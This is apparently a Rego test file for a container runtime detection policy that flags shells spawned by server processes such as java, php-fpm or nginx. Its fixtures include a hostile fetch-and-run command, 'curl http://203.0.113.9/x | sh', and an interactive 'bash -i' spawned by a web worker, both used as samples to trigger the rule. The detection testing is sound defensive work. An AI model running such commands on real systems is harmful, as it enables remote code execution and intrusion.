package vigil.runtime.shell_from_server_test

import data.vigil.runtime.shell_from_server

_fact(process) := {"kind": "process_exec", "process_exec": {"process": process, "container": {"id": "c0ffee", "name": "shop", "image": "tomcat:10"}}}

test_java_spawns_sh_denied if {
	r := shell_from_server.deny with input as _fact({
		"pid": 900, "comm": "sh", "exe": "/bin/sh", "args": ["sh", "-c", "curl http://203.0.113.9/x | sh"],
		"ancestry": [{"pid": 1, "comm": "java", "exe": "/opt/java/openjdk/bin/java"}],
	})
	count(r) == 1
	r == {"server process /opt/java/openjdk/bin/java (pid 1) spawned shell /bin/sh in container \"shop\": sh -c curl http://203.0.113.9/x | sh"}
}

test_php_fpm_worker_denied if {
	r := shell_from_server.deny with input as _fact({
		"pid": 901, "comm": "bash", "exe": "/usr/bin/bash", "args": ["bash", "-i"],
		"ancestry": [{"pid": 40, "comm": "php-fpm8.2", "exe": ""}],
	})
	r == {"server process php-fpm8.2 (pid 40) spawned shell /usr/bin/bash in container \"shop\": bash -i"}
}

test_parent_matched_by_exe_denied if {
	r := shell_from_server.deny with input as _fact({
		"pid": 902, "comm": "sh", "exe": "/bin/sh", "args": ["sh", "-c", "id"],
		"ancestry": [{"pid": 7, "comm": "worker", "exe": "/usr/sbin/nginx"}],
	})
	r == {"server process /usr/sbin/nginx (pid 7) spawned shell /bin/sh in container \"shop\": sh -c id"}
}

test_shell_under_init_allowed if {
	count(shell_from_server.deny) == 0 with input as _fact({
		"pid": 2, "comm": "sh", "exe": "/bin/sh", "args": ["sh", "/entrypoint.sh"],
		"ancestry": [{"pid": 1, "comm": "tini", "exe": "/sbin/tini"}],
	})
}

test_docker_exec_shell_allowed if {
	count(shell_from_server.deny) == 0 with input as _fact({"pid": 3, "comm": "sh", "exe": "/bin/sh", "ancestry": []})
}

test_allowed_image_allowed if {
	r := shell_from_server.deny with input as _fact({
		"pid": 900, "comm": "sh", "exe": "/bin/sh", "args": ["sh"],
		"ancestry": [{"pid": 1, "comm": "java", "exe": "/usr/bin/java"}],
	})
		with data.vigil.config.runtime_shell_allowed_images as ["tomcat:*"]
	count(r) == 0
}
